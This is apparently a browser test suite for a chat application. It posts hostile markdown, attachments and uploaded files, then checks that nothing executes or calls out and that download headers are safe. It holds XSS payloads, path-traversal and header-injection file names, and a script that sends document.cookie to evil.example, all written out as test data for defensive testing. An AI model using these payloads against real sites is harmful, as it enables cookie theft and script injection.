import { deepEqual, equal, match, ok } from 'node:assert/strict'
import { channelsUpdate, filesUpload, postsCreate, sessionsCreate, usersPatch, type FileInfo } from '@rookery/sdk/protocol'
import type { TestWindow } from '../harness/browser.ts'
import { hostileTexts } from '../../web/test/messages/hostile-texts.ts'
import { password, type Furniture } from './furniture.ts'

const script = 'document.documentElement.dataset.hacked = "yes"; document.title = "hacked"; try { top.document.title = "hacked"; fetch("https://evil.example/?" + document.cookie) } catch {}'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload='${script.replaceAll('"', '&quot;')}'><script>${script}</script><image href="https://evil.example/x.png"/><foreignObject><iframe src="javascript:${script.replaceAll('"', '&quot;')}"/></foreignObject></svg>`
const page = `<!doctype html><meta http-equiv="refresh" content="0;url=https://evil.example/"><script>${script}</script><img src=x onerror='${script}'><link rel=stylesheet href=https://evil.example/x.css><form action=https://evil.example><input name=a autofocus onfocus='${script}'></form>`

/** Names that have made lists, headers and paths of other programs do what their sender wanted. */
const hostileNames: readonly string[] = [
  '<img src=x onerror=alert(1)>.txt', '"><script>alert(1)</script>.txt', '\'onmouseover=\'alert(1).txt', '{{constructor.constructor("alert(1)")()}}.txt', '${alert(1)}.txt', '../../../etc/passwd', '..\\..\\windows\\system32\\config', '/absolute.txt', 'C:\\boot.ini',
  'two\r\nSet-Cookie: hacked=1\r\n\r\n<script>alert(1)</script>.txt', 'a"; filename="b.html', 'a.txt; filename*=UTF-8\'\'b.html', "UTF-8''%3Cscript%3E.txt", '%2e%2e%2fpasswd', 'a%00.html', 'a\u0000.html', 'photo\u202Egnp.exe', '\u2066\u2067\u202Dabc\u2069.txt', '\u200b\u200b.txt', '.htaccess', '...', ' ', 'CON.txt', 'con', 'a.txt.', 'desktop.ini',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d'.repeat(12) + '.txt', `${'M'.repeat(230)}.txt`, 'ﷺ'.repeat(60) + '.txt', 'ملف عربي ‏مع نص.txt', '製品開発部の資料.txt', '👩‍👩‍👧‍👦'.repeat(8) + '.txt', '__proto__', 'constructor', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://evil.example/a.txt', '`code`**bold**[x](javascript:alert(1)).md', '@all #tag ~channel :tada:.txt',
]
/** What browsers run when they are let: by its bytes, its name or both. */
const hostileBytes: readonly (readonly [name: string, bytes: string])[] = [
  ['page.html', page], ['page.htm', page], ['page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`], ['picture.svg', svg], ['picture.png', svg], ['picture.jpg', page], ['picture.gif', `GIF89a/*${' '.repeat(20)}*/=1;${script}`], ['style.css', '@import "https://evil.example/x.css"; * { background: url(https://evil.example/x.png) }'],
  ['script.js', script], ['module.mjs', script], ['feed.xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></x>`], ['page.mhtml', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`],
  ['paper.pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'], ['film.mp4', page], ['song.mp3', page], ['none', page], ['page.shtml', page], ['list.m3u8', '#EXTM3U\n#EXTINF:1,\nhttps://evil.example/x.ts'], ['captions.vtt', 'WEBVTT\n\n00:00.000 --> 10:00.000\n<img src=x onerror=alert(1)>'],
]

/** Watches a page for whatever hostile input would want: that something runs, asks elsewhere or navigates. */
function guard({ page: watched, context }: TestWindow, origin: string): { readonly asked: string[], expectNothing(what: string): Promise<void> } {
  const asked: string[] = []
  const ran: string[] = []
  context.on('request', (request) => { if (!request.url().startsWith(origin) && !/^(?:data|blob):/.test(request.url())) asked.push(request.url()) })
  watched.on('dialog', (dialog) => {
    ran.push(dialog.message())
    void dialog.dismiss()
  })
  return {
    asked,
    async expectNothing(what) {
      deepEqual(ran, [], what)
      equal(await watched.evaluate(() => document.documentElement.dataset['hacked']), undefined, what)
      deepEqual(await watched.evaluate(() => {
        const bad: string[] = []
        for (const each of document.body.querySelectorAll('*')) {
          if (/^(?:script|iframe|object|embed|base|meta|link|style|frame|applet)$/i.test(each.tagName)) bad.push(each.outerHTML.slice(0, 200))
          for (const { name, value } of each.attributes) if (/^on/i.test(name) || name === 'srcdoc' || (/^(?:href|src|xlink:href|action|formaction|poster|data|srcset)$/i.test(name) && !/^(?:https?:\/\/|mailto:|\/(?!\/)|#|\?|blob:|data:image\/(?:jpeg|png|svg\+xml))/i.test(value))) bad.push(`${each.tagName} ${name}=${value}`)
        }
        return bad
      }), [], what)
      // Pictures that a message names are asked for where they are, without telling from where.
      deepEqual(asked.filter((url) => !url.startsWith('https://example.com/')), [], what)
    },
  }
}

/** Nothing is pushed out of its place by what stands in a message: rows as wide as the list, none above another. */
async function expectOrder({ page: shown }: TestWindow, what: string): Promise<void> {
  const found = await shown.evaluate(() => {
    const bad: string[] = []
    if (document.documentElement.scrollWidth > innerWidth) bad.push(`the page is ${document.documentElement.scrollWidth} wide`)
    const log = document.querySelector('[role="log"]')
    if (log && log.scrollWidth > log.clientWidth) bad.push(`the list is ${log.scrollWidth} wide in ${log.clientWidth}`)
    const rows = [...log?.querySelectorAll('article') ?? []].map((row) => row.getBoundingClientRect()).sort((a, b) => a.top - b.top)
    rows.forEach((row, index) => {
      const next = rows[index + 1]
      if (next && row.bottom > next.top + 1) bad.push(`a row ends at ${row.bottom} and the next begins at ${next.top}`)
      if (row.right > (log?.getBoundingClientRect().right ?? innerWidth) + 1) bad.push(`a row ends at ${row.right}`)
    })
    return bad
  })
  deepEqual(found, [], what)
}

/** Hostile markdown in each place where people write what others see. */
export async function hostileMarkdown(window: TestWindow, { world }: Furniture): Promise<void> {
  const [ada, bob] = [world.people['ada'], world.people['bob']]
  if (!ada || !bob) throw new Error('Nobody is there')
  const { page: shown } = window
  const channel = await world.createChannel('Hostile', ['bob'])
  const watch = guard(window, world.server.url)
  const texts: string[] = []
  for (const text of hostileTexts.map((each) => each.replaceAll('\u0000', ''))) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + text.length < 12_000) texts[texts.length - 1] = `${last}\n\n${text}`
    else texts.push(text)
  }
  await shown.goto(`${world.server.url}/engines/channels/hostile`)
  await shown.getByRole('log').waitFor()
  for (const [place, message] of texts.entries()) {
    await bob.client.run(postsCreate, { channelId: channel.id, message: `${message}\n\nend ${place}`, pendingPostId: crypto.randomUUID() })
    await shown.getByRole('log').getByText(`end ${place}`, { exact: true }).waitFor()
    await watch.expectNothing(`text ${place}`)
  }
  const payload = '"><img src=x onerror=alert(1)><script>alert(1)</script>[x](javascript:alert(1))'
  await ada.client.run(channelsUpdate, { channelId: channel.id, header: `${payload} ![](https://example.com/header.png)`, purpose: payload })
  await bob.client.run(usersPatch, { userId: bob.user.id, nickname: '<b onmouseover=alert(1)>bob</b>', position: payload.slice(0, 60) })
  await bob.client.run(postsCreate, {
    channelId: channel.id, message: 'with attachments', pendingPostId: crypto.randomUUID(),
    props: { attachments: [{ fallback: payload, color: 'red;background:url(https://evil.example/)', pretext: payload, author_name: payload, author_link: 'javascript:alert(1)', author_icon: 'javascript:alert(1)', title: payload, title_link: 'javascript:alert(1)', text: payload, fields: [{ title: payload, value: payload }], image_url: 'javascript:alert(1)', thumb_url: 'data:text/html,<script>alert(1)</script>', footer: payload, footer_icon: 'javascript:alert(1)' }] },
  })
  await shown.getByRole('log').getByText('with attachments').waitFor()
  await watch.expectNothing('attachments')
  await shown.goto(`${world.server.url}/engines/channels/hostile?panel=info`)
  await shown.getByRole('region', { name: 'About' }).waitFor()
  await watch.expectNothing('header and purpose')

  // Letters that climb over their line, turn the direction of the rest, or never end.
  const calm = await bob.client.run(postsCreate, { channelId: channel.id, message: 'calm water', pendingPostId: crypto.randomUUID() })
  const strange = [`Z${'\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u0334\u0319\u0324\u031e\u0349'.repeat(30)}algo`, '\u202Ereversed \u2066\u2067 never closed', `${'\u200f'.repeat(500)}after marks`, 'W'.repeat(16_383), '﷽'.repeat(2000), 'ส็็็็็็็็็็็็็็็็็็็็็็็็็'.repeat(20), `|${'x|'.repeat(200)}\n|${'-|'.repeat(200)}\n|${'y|'.repeat(200)}`, `\`\`\`\n${'z'.repeat(16_000)}\n\`\`\``, `$${'x'.repeat(3000)}$`, '> '.repeat(300) + 'deep', `${'- '.repeat(100)}deep`]
  for (const [place, message] of strange.entries()) {
    await bob.client.run(postsCreate, { channelId: channel.id, message, pendingPostId: crypto.randomUUID() })
    await bob.client.run(postsCreate, { channelId: channel.id, message: `after ${place}`, pendingPostId: crypto.randomUUID() })
    await shown.getByRole('log').getByText(`after ${place}`, { exact: true }).waitFor()
    await expectOrder(window, `strange text ${place}`)
  }
  await window.screenshot('gates/strange-texts')
  // 40,000 characters are refused with a reason; the page stays usable.
  await shown.goto(`${world.server.url}/engines/channels/hostile`)
  const field = shown.getByRole('textbox', { name: /Hostile/ })
  await field.fill('漢'.repeat(40_000))
  await shown.getByText(/23.?617/).first().waitFor()
  ok(await shown.getByRole('button', { name: 'Send' }).isDisabled())
  await expectOrder(window, '40,000 characters in the composer')
  await field.fill('')
  await shown.goto(`${world.server.url}/engines/pl/${calm.id}`)
  await shown.getByText('calm water').first().waitFor()
  await expectOrder(window, 'around')
  deepEqual(window.complaints, [])
}

/** Hostile files: in the message, the gallery, the panel, the composer, and opened as pages of their own. */
export async function hostileFiles(window: TestWindow, { world }: Furniture): Promise<void> {
  const bob = world.people['bob']
  if (!bob) throw new Error('Bob is not there')
  const { page: shown, context } = window
  const channel = await world.createChannel('Files of strangers', ['bob'], { name: 'strangers' })
  const watch = guard(window, world.server.url)
  await shown.goto(`${world.server.url}/engines/channels/strangers`)
  await shown.getByRole('log').waitFor()
  const wanted: (readonly [string, string])[] = [...hostileNames.map((name) => [name, `text of ${name.length}`] as const), ...hostileBytes]
  const files: FileInfo[] = []
  for (const [name, bytes] of wanted.filter(([told]) => !told.includes('\u0000'))) files.push(await bob.client.upload(filesUpload, { channelId: channel.id, name }, new TextEncoder().encode(bytes)))
  for (let from = 0; from < files.length; from += 10) {
    await bob.client.run(postsCreate, { channelId: channel.id, message: `files ${from}`, pendingPostId: crypto.randomUUID(), fileIds: files.slice(from, from + 10).map(({ id }) => id) })
    await shown.getByRole('log').getByText(`files ${from}`, { exact: true }).waitFor()
    await watch.expectNothing(`files ${from}`)
    await expectOrder(window, `files ${from}`)
  }
  await window.screenshot('gates/hostile-files')
  await shown.goto(`${world.server.url}/engines/channels/strangers?panel=files`)
  await shown.getByRole('region', { name: 'Files' }).getByRole('listitem').first().waitFor()
  await watch.expectNothing('the panel of files')
  await expectOrder(window, 'the panel of files')
  await window.screenshot('gates/hostile-files-panel')

  // In the composer before they are sent.
  await shown.locator('input[type="file"]').setInputFiles(hostileNames.filter((name) => !/[/\\\u0000\r\n]/.test(name) && name.trim() && !/^\.+$/.test(name) && Buffer.byteLength(name) < 256).slice(0, 10).map((name) => ({ name, mimeType: 'text/html', buffer: Buffer.from(page) })))
  await shown.locator('form.composer .files li').nth(5).waitFor()
  await watch.expectNothing('the composer')
  await expectOrder(window, 'the composer')
  for (let left = await shown.locator('form.composer .files li').count(); left > 0; left -= 1) await shown.locator('form.composer .files li button').last().click()

  // What the server says of each, at every address where it has it.
  const { token } = await bob.client.run(sessionsCreate, { login: 'bob', password })
  for (const file of files) {
    ok(!/[\p{Cc}\u202a-\u202e\u2066-\u2069/\\]/u.test(file.name), `the name ${JSON.stringify(file.name)} is clean`)
    for (const address of [`/api/v1/files.download?fileId=${file.id}`, `/api/v4/files/${file.id}`]) {
      const answer = await context.request.get(`${world.server.url}${address}`, address.startsWith('/api/v4') ? { headers: { authorization: `Bearer ${token}` } } : {})
      const headers = answer.headers()
      equal(answer.status(), 200, address)
      equal(headers['x-content-type-options'], 'nosniff', file.name)
      match(headers['content-security-policy'] ?? '', /default-src 'none'.*; sandbox$/, file.name)
      equal(headers['set-cookie'], undefined, file.name)
      const disposition = headers['content-disposition'] ?? ''
      match(disposition, /^(?:attachment|inline); filename="[^"\\]*"; filename\*=UTF-8''[\w%.~!$&+^`|-]*$/, file.name)
      equal(decodeURIComponent(disposition.slice(disposition.lastIndexOf("UTF-8''") + "UTF-8''".length)), file.name)
      if (disposition.startsWith('inline')) match(headers['content-type'] ?? '', /^(?:image\/(?:png|jpeg|gif|webp|bmp|avif|tiff|x-icon|vnd\.microsoft\.icon)|audio\/|video\/|text\/plain|application\/pdf)/, file.name)
    }
  }
  // Opened as a page: it is saved, or shown where it can do nothing.
  const tab = await context.newPage()
  const said: string[] = []
  tab.on('dialog', (dialog) => {
    said.push(dialog.message())
    void dialog.dismiss()
  })
  for (const file of files.slice(-hostileBytes.length)) {
    const saved = tab.waitForEvent('download', { timeout: 15_000 }).then(async (download) => {
      await download.cancel()
      return true
    }, () => false)
    await tab.goto(`${world.server.url}/api/v1/files.download?fileId=${file.id}`).catch(() => {})
    // What is not saved is shown: a picture, a film or plain text, without a script of its own.
    if (tab.url().includes('files.download')) ok(await tab.evaluate(() => document.documentElement.dataset['hacked'] === undefined && document.title !== 'hacked' && origin === 'null'), file.name)
    else ok(await saved, file.name)
    await tab.goto('about:blank')
  }
  await tab.close()
  deepEqual(said, [])
  await watch.expectNothing('files as pages')
  deepEqual(watch.asked, [])
}
